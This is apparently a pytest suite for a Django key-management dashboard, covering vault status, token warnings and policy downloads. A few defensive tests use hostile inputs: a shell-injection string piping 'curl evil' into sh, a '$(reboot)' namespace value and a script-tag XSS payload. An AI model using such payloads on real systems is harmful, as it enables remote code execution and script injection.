"""The Key Management Service panel over HTTP: what everybody sees of an Atom, its containers and the customer's vault."""

from __future__ import annotations

import time
from datetime import timedelta
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from atoms import actions as atoms
from atoms.models import Atom, Node
from kmscore.byov.verdicts import Step, explain
from tests.conftest import Stage
from tests.vaults.panel.panel import HTMX, SAMPLE, Panel, reported, save_extensions_of, text_of
from vaults.models import ContainerReport, KmsSettings, PropertiesFile
from vaults.panel.settings import SETTINGS, refuse_forged
from vaults.panel.status import panel_of

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.postgres]


@pytest.fixture
def panel(stage: Stage) -> Panel:
    return Panel(stage)


# -- what everybody sees -----------------------------------------------------------------------------------------------


def test_the_polled_fragments_are_304_until_something_changes(panel: Panel) -> None:
    for name in ("kms_panel", "kms_settings"):
        first = panel.get(name, **HTMX)
        again = panel.get(name, **HTMX, **{"if-none-match": first.headers["ETag"]})
        assert again.status_code == 304, name
    tags = {name: panel.get(name, **HTMX).headers["ETag"] for name in ("kms_panel", "kms_settings")}
    panel.save(SAMPLE)
    for name, tag in tags.items():
        assert panel.get(name, **HTMX, **{"if-none-match": tag}).status_code == 200, name


def test_a_pending_switch_says_the_step_and_what_to_do(panel: Panel) -> None:
    panel.save(SAMPLE)
    steps = [
        {"step": "dns", "state": "ok", "code": "ok", "detail": ""},
        {"step": "token", "state": "failed", "code": "token_invalid", "detail": ""},
    ]
    reported(panel.atom, verdict="switch_pending", settings_revision=1, preflight=steps, preflight_at=timezone.now())
    page = text_of(panel.get())
    assert "Switch pending:" in page
    assert "How your vault answered orders-01" in page
    tree = text_of(panel.client.get(reverse("atoms:atom_tree", args=[panel.stage.account.code])))
    assert ">Pending<" in tree


def test_a_molecule_is_switched_when_every_node_is(panel: Panel) -> None:
    panel.save(SAMPLE)
    reported(panel.atom, settings_revision=2, source="byov")
    late = reported(panel.atom, settings_revision=1)
    assert "1 of 2 nodes take the new settings at the next contact." in text_of(panel.get())
    Node.objects.filter(pk=late.node_id).update(last_seen_at=timezone.now() - timedelta(hours=1))
    assert "Start it with" in text_of(panel.get())
    ContainerReport.objects.update(settings_revision=2)
    assert "Switch pending" not in text_of(panel.get())


def test_the_tree_names_the_mode(panel: Panel) -> None:
    tree = reverse("atoms:atom_tree", args=[panel.stage.account.code])
    assert "tree-badge" not in text_of(panel.client.get(tree))
    save_extensions_of(panel.stage)
    panel.save(SAMPLE)
    reported(panel.atom, settings_revision=2, source="byov", revision=1)
    assert ">BYOV<" in text_of(panel.client.get(tree))
    panel.save(wrapped="on")
    ContainerReport.objects.update(settings_revision=3)
    assert ">Failing<" in text_of(panel.client.get(tree)), "its store has a key in a file"
    ContainerReport.objects.update(wrapped=True)
    assert ">Wrapped<" in text_of(panel.client.get(tree))
    ContainerReport.objects.update(verdict="token_invalid")
    assert ">Failing<" in text_of(panel.client.get(tree))


BYOV = {"settings_revision": 2, "source": "byov"}
DROPPED = {"token": {"problem": "token_revoked", "dropped": True}}


@pytest.mark.parametrize(
    ("report", "online", "panel_says", "tree_says"),
    [
        (BYOV, True, "Sealed", "BYOV"),
        (BYOV | {"settings_revision": 1}, True, "Switch pending", "Pending"),
        (BYOV | {"verdict": "token_invalid"}, True, "Failing", "Failing"),
        (BYOV | DROPPED, True, "Failing", "Failing"),
        (BYOV | DROPPED | {"source": "hosted"}, True, "Mismatch", "Failing"),
        (BYOV | {"wrapped": True}, True, "Mismatch", "Failing"),
        (BYOV | {"wrapped": True}, False, "Offline", "BYOV"),
        (BYOV | {"verdict": "vault_sealed"}, False, "Failing", "Failing"),
        (BYOV | {"revision": 0, "source": "hosted"}, True, "Delivering", "BYOV"),
        (BYOV | {"token": {"problem": "", "dropped": True}}, True, "Failing", "Failing"),
        (None, True, "Switch pending", "Pending"),
    ],
)
def test_the_tree_says_what_the_panel_says(
    panel: Panel, report: dict[str, Any] | None, online: bool, panel_says: str, tree_says: str
) -> None:
    save_extensions_of(panel.stage)
    panel.save(SAMPLE)
    panel.stage.production.refresh_from_db()
    made = reported(panel.atom, **{"revision": panel.stage.production.extensions_revision} | (report or {}))
    if report is None:
        made.delete()
    if not online:
        Node.objects.update(last_seen_at=timezone.now() - timedelta(hours=1))
    assert panel_of(refuse_forged(find_for_panel(panel))).status.word == panel_says
    tree = text_of(panel.client.get(reverse("atoms:atom_tree", args=[panel.stage.account.code])))
    assert f">{tree_says}<" in tree


def find_for_panel(panel: Panel) -> Atom:
    return Atom.objects.select_related("attached_to", "account__kms", *SETTINGS).get(pk=panel.atom.pk)


@pytest.mark.parametrize(("days", "tone"), [(0.5, "bad"), (6, "warn"), (29, "warn"), (40, "")])
def test_the_panel_warns_before_the_token_ends(panel: Panel, days: float, tone: str) -> None:
    panel.save(SAMPLE)
    now = int(time.time())
    token = {"ends": now + int(timedelta(days=days).total_seconds()), "because": "explicit_max", "certain": True}
    token |= {"renews_every": 86390, "next_renewal": now + 100, "looked_up_at": now}
    reported(panel.atom, settings_revision=2, source="byov", token=token)
    page = text_of(panel.get())
    assert "whatever is done" in page
    assert (f'<div class="callout {tone}"' in page and "The token of your vault ends" in page) == bool(tone)


@pytest.mark.parametrize("dropped", [True, False])
def test_a_token_that_is_renewed_no_more_is_the_state_and_an_outage_is_a_warning(panel: Panel, dropped: bool) -> None:
    panel.save(SAMPLE)
    token = {"problem": "token_invalid" if dropped else "vault_timeout", "dropped": dropped}
    reported(panel.atom, settings_revision=2, source="byov", token=token)
    page = text_of(panel.get())
    assert ("takes nothing new" in page) == dropped
    assert ("could not be renewed" in page) != dropped


@pytest.mark.parametrize(
    "code", ["token_revoked", "token_expired", "renewal_denied", "vault_unreachable", "answer_invalid"]
)
def test_what_is_wrong_with_a_token_is_said_in_words(panel: Panel, code: str) -> None:
    """As `check` and `status` say it; tests/kmscore/byov/test_words.py has all codes."""
    panel.save(SAMPLE)
    reported(panel.atom, settings_revision=2, source="byov", token={"problem": code, "dropped": True})
    page = text_of(panel.get())
    assert escape(explain(Step("token", "failed", code), key="").sentence) in page
    assert "no words for" not in page


@pytest.mark.parametrize("number", [0, 1, 10**9, 7258118400])
def test_no_number_a_container_may_report_breaks_the_panel(panel: Panel, number: int) -> None:
    panel.save(SAMPLE)
    names = ("ttl", "period", "ends", "renews_every", "next_renewal", "looked_up_at", "renewed_at")
    reported(panel.atom, settings_revision=2, source="byov", token=dict.fromkeys(names, number) | {"because": "ttl"})
    assert panel.get().status_code == 200


def test_health_is_what_containers_report_and_not_what_the_settings_say(panel: Panel) -> None:
    save_extensions_of(panel.stage)
    panel.save(SAMPLE, wrapped="on")
    report = reported(panel.atom, settings_revision=2, revision=1, source="byov", wrapped=True)
    assert "No plaintext key is kept there" in text_of(panel.get())
    for other in ({"wrapped": False}, {"source": "hosted", "wrapped": False}):
        ContainerReport.objects.filter(pk=report.pk).update(**other)
        page = text_of(panel.get())
        assert "Mismatch" in page
        assert "No plaintext key is kept there" not in page


@pytest.mark.parametrize(
    "change",
    [
        {"facts": {"uri": "https://evil.example:8200", "confirm": "https://x:1;curl evil|sh #"}},
        {"facts": []},
        {"facts": "x"},
        {"name": "other.yaml"},
    ],
)
def test_what_was_written_past_the_portal_is_on_no_page(panel: Panel, change: dict[str, Any]) -> None:
    panel.save(SAMPLE)
    PropertiesFile.objects.update(**change)
    for name in ("kms_panel", "kms_settings", "kms_policy"):
        answer = panel.get(name)
        assert answer.status_code == 403
        assert "evil" not in text_of(answer)


def test_a_mode_written_past_the_portal_is_on_no_page(panel: Panel) -> None:
    panel.save(SAMPLE)
    KmsSettings.objects.update(wrapped=True)
    assert panel.get().status_code == 403


def test_a_report_cannot_write_on_the_page(panel: Panel) -> None:
    """Steps are codes; unknown ones get our own words."""
    panel.save(SAMPLE)
    steps = [{"step": "made_up", "state": "failed", "code": "made_up_too", "detail": "<script>alert(1)</script>"}]
    reported(panel.atom, settings_revision=1, preflight=steps, preflight_at=timezone.now(), verdict="switch_pending")
    answer = panel.get()
    assert answer.status_code == 200
    assert "<script>alert(1)" not in text_of(answer)


def test_what_the_panel_asks_of_the_database_is_constant(panel: Panel, django_assert_max_num_queries: Any) -> None:
    panel.save(SAMPLE)
    for _ in range(5):
        reported(panel.atom, settings_revision=2, source="byov")
    with django_assert_max_num_queries(20):
        panel.get("kms_panel", **HTMX)


def test_the_policy_page_is_made_for_the_atom(panel: Panel) -> None:
    panel.save(SAMPLE, wrapped="on")
    page = text_of(panel.get("kms_policy"))
    key = f"{panel.stage.account.code}_{panel.atom.pk}"
    assert f"transit/decrypt/{key}" in page
    assert 'value="admin"' in page
    plain = panel.client.get(panel.url("kms_policy") + "?shown=1&cli=bao")
    assert f"transit/decrypt/{key}" not in text_of(plain)
    assert "bao write" in text_of(plain)
    odd = panel.client.get(panel.url("kms_policy") + "?shown=1&namespace=$(reboot)")
    assert odd.status_code == 200
    assert "A namespace has letters" in text_of(odd)


@pytest.mark.parametrize("name", ["policy.hcl", "policy.json", "vault.sh", "bao.sh", "main.tf"])
def test_every_text_can_be_downloaded(panel: Panel, name: str) -> None:
    url = reverse("vaults:kms_policy_file", args=[panel.stage.account.code, panel.atom.pk, name])
    answer = panel.client.get(url)
    assert answer.status_code == 200
    assert name in answer.headers["Content-Disposition"]
    assert str(panel.atom.pk) in text_of(answer)
    assert panel.client.get(url + "x").status_code == 404


def test_the_tree_asks_as_much_however_many_atoms_there_are(panel: Panel) -> None:
    def asked() -> int:
        with CaptureQueriesContext(connection) as queries:
            assert panel.client.get(reverse("atoms:atom_tree", args=[panel.stage.account.code])).status_code == 200
        return len(queries)

    panel.save(SAMPLE)
    reported(panel.atom, settings_revision=2, source="byov", verdict="token_invalid")
    few = asked()
    for number in range(5):
        atom = atoms.create_atom(
            panel.stage.account,
            name=f"A{number}",
            type="ATOM",
            environment=panel.stage.production,
            actor=panel.stage.alice,
        )
        for _ in range(2):
            reported(
                atom,
                verdict="token_invalid",
                preflight=[{"step": "token", "state": "failed", "code": "token_invalid", "detail": ""}],
            )
    assert asked() == few
